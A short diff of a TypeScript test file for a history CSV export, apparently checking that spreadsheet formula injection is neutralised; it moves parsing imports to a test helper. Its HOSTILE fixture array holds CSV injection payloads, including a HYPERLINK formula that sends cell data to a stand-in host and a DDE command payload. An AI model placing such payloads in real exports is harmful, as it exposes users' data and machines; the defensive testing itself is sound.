@@ -6,7 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { run } from '../../src/main/cli/commands/snapshot';
-import { historyToCsv, parseCsvRecords, parseHistoryCsv } from '../../src/shared/history-csv';
+import { historyToCsv } from '../../src/shared/history-csv';
+import { parseCsvRecords, parseHistoryCsv } from '../export/support/history-csv-reader';
 
 const HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tTAB', '\rCR'];
 
